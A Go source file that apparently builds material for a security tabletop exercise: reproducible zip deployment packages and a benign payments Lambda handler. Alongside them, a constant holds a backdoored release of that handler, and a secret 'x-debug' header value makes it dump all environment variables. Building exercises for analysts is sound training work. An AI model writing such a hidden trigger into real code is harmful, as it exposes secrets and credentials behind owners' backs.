package tabletop

import (
	"archive/zip"
	"bytes"
	"fmt"
	"time"
)

// archive is a deployment package with one file, the same bytes for the same content.
func archive(name, content string) ([]byte, error) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	f, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		return nil, fmt.Errorf("packing %s: %w", name, err)
	}
	if _, err := f.Write([]byte(content)); err != nil {
		return nil, fmt.Errorf("packing %s: %w", name, err)
	}
	if err := z.Close(); err != nil {
		return nil, fmt.Errorf("packing %s: %w", name, err)
	}
	return b.Bytes(), nil
}

func paymentsCode(release int) string {
	return fmt.Sprintf("# payments, release %d\nimport boto3\n\ndef handler(event, context):\n    return {'statusCode': 200}\n", release)
}

// backdoorCode is never run. It is what an analyst will find in the case.
const backdoorCode = `# payments, release 2
import boto3, json, os

def handler(event, context):
    if event.get('headers', {}).get('x-debug') == '7f3a':
        return {'statusCode': 200, 'body': json.dumps(dict(os.environ))}
    return {'statusCode': 200}
`
